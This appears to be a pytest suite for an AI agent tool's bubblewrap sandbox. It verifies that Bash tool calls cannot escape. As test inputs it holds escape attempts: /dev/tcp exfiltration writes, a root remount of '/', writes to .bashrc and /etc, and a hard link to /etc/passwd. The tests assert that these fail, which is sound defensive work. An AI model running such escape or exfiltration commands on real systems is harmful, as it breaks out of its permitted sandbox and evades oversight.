"""Sandbox escapes: an allowed command still cannot reach the network, remount the
filesystem (we run as root here), write outside the workspace or keep capabilities."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tether.sandbox import BwrapSandbox
from tether.settings.model import SandboxSettings

from .conftest import MakeHarness, needs_bwrap, text_of

pytestmark = needs_bwrap


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on the host's loopback: reaching it means the network is shared."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            got.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


async def test_network_is_unreachable_from_the_sandbox(
    make_harness: MakeHarness, listener: tuple[int, list[bytes]]
) -> None:
    port, got = listener
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Bash", command=f"echo exfil > /dev/tcp/127.0.0.1/{port} && echo SENT")
    assert "SENT" not in text_of(out)
    out = await h.call("Bash", command="echo x > /dev/tcp/1.1.1.1/80 && echo SENT")
    assert "SENT" not in text_of(out)
    assert got == []


async def test_settings_can_allow_the_network_explicitly(
    make_harness: MakeHarness, workspace: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, _ = listener
    h = make_harness(mode="bypassPermissions")
    h.ctx.config.shell_sandbox = BwrapSandbox(workspace, SandboxSettings(allow_network=True))
    out = await h.call("Bash", command=f"echo hello > /dev/tcp/127.0.0.1/{port} && echo SENT")
    assert "SENT" in text_of(out), text_of(out)


async def test_remount_root_read_write_as_root_fails(make_harness: MakeHarness) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call(
        "Bash", command="mount -o remount,rw / && touch /etc/tether-pwned && echo ESCAPED"
    )
    assert "ESCAPED" not in text_of(out)
    assert not Path("/etc/tether-pwned").exists()


async def test_all_capabilities_are_dropped_even_as_root(make_harness: MakeHarness) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Bash", command="grep -E '^Cap(Eff|Prm|Bnd|Amb)' /proc/self/status")
    lines = text_of(out).splitlines()
    assert len(lines) == 4 and all(line.split()[1] == "0000000000000000" for line in lines)


async def test_writes_outside_the_workspace_fail(make_harness: MakeHarness, outside: Path) -> None:
    h = make_harness(mode="bypassPermissions")
    home_probe = Path.home() / ".tether-sandbox-probe"
    out = await h.call(
        "Bash",
        command=f"echo x > {outside}/new.txt; echo x >> {outside}/.bashrc; "
        f"touch {home_probe}; echo x > /etc/tether-probe; echo done",
    )
    assert "done" in text_of(out)
    assert not (outside / "new.txt").exists()
    assert (outside / ".bashrc").read_text() == "# rc\n"
    assert not home_probe.exists() and not Path("/etc/tether-probe").exists()


async def test_tmp_is_private(make_harness: MakeHarness) -> None:
    marker = Path("/tmp") / f"tether-host-{os.getpid()}"
    marker.write_text("host")
    try:
        h = make_harness(mode="bypassPermissions")
        out = await h.call(
            "Bash", command=f"ls {marker} 2>&1; echo sandbox > /tmp/tether-from-sandbox"
        )
        assert "No such file" in text_of(out)
        assert not Path("/tmp/tether-from-sandbox").exists()
    finally:
        marker.unlink()


async def test_hard_link_to_a_file_outside_cannot_be_made(
    make_harness: MakeHarness, workspace: Path
) -> None:
    """/etc/passwd is visible (read-only) inside; a link to it would be a writable name for
    it in the workspace. Links cannot cross bwrap's mounts."""
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Bash", command="ln /etc/passwd stolen && echo LINKED")
    assert "LINKED" not in text_of(out) and not (workspace / "stolen").exists()


async def test_host_sockets_under_run_are_hidden(make_harness: MakeHarness) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Bash", command="ls -A /run | wc -l")
    assert text_of(out).strip().splitlines()[0] == "0"


async def test_processes_outside_the_sandbox_are_invisible(make_harness: MakeHarness) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Bash", command=f"test -e /proc/{os.getpid()}/cmdline && echo VISIBLE")
    assert "VISIBLE" not in text_of(out)


async def test_user_settings_stay_read_only_under_an_extra_writable_path(
    make_harness: MakeHarness, workspace: Path, tmp_path: Path
) -> None:
    config = tmp_path / "home" / ".config" / "tether"
    config.mkdir(parents=True)
    (config / "settings.json").write_text("{}")
    settings = SandboxSettings(writable_paths=[str(tmp_path / "home")])
    h = make_harness(mode="bypassPermissions")
    h.ctx.config.shell_sandbox = BwrapSandbox(workspace, settings, private=(config,))
    out = await h.call(
        "Bash",
        command=f"touch {tmp_path}/home/ok && echo '{{\"permissions\":1}}' > {config}/settings.json",
    )
    assert (tmp_path / "home" / "ok").exists(), text_of(out)
    assert (config / "settings.json").read_text() == "{}"


async def test_background_command_is_sandboxed_too(
    make_harness: MakeHarness, outside: Path
) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call(
        "Bash", command=f"echo x > {outside}/bg.txt; echo finished", run_in_background=True
    )
    assert not out.failed
    (task,) = h.ctx.tasks.all()
    done = await h.ctx.tasks.wait(task.id, timeout=10)
    assert done is not None and done.finished
    assert "finished" in done.output_path.read_text()
    assert not (outside / "bg.txt").exists()


async def test_sandbox_escape_hatch_asks_every_time(make_harness: MakeHarness) -> None:
    h = make_harness(mode="bypassPermissions", allow=("Bash(curl:*)",))
    decision = await h.decide("Bash", command="curl x", dangerouslyDisableSandbox=True)
    assert decision.behavior == "ask" and decision.forced


def _host_processes_running(marker: str) -> list[int]:
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if marker in cmdline and state not in ("Z", "X"):
            found.append(int(entry.name))
    return found


async def test_cancelled_command_leaves_no_process_behind(make_harness: MakeHarness) -> None:
    """A background child that even leaves the process group (setsid) dies with the
    sandbox: bwrap's PID namespace ends when the command is stopped."""
    import asyncio

    marker = f"{os.getpid()}.4242"
    h = make_harness(mode="bypassPermissions")
    call = asyncio.create_task(
        h.call("Bash", command=f"setsid sleep {marker} & sleep {marker}; wait")
    )
    for _ in range(200):
        if len(_host_processes_running(f"sleep {marker}")) >= 2:
            break
        await asyncio.sleep(0.02)
    assert len(_host_processes_running(f"sleep {marker}")) >= 2
    call.cancel()
    try:
        await call
    except asyncio.CancelledError:
        pass
    for _ in range(100):
        if not _host_processes_running(f"sleep {marker}"):
            break
        await asyncio.sleep(0.05)
    assert _host_processes_running(f"sleep {marker}") == []


async def test_blocked_write_tells_the_model_how_to_ask_for_more(
    make_harness: MakeHarness,
) -> None:
    h = make_harness(mode="bypassPermissions")
    out = await h.call("Bash", command="touch /etc/tether-blocked")
    assert out.failed and "dangerouslyDisableSandbox" in text_of(out)
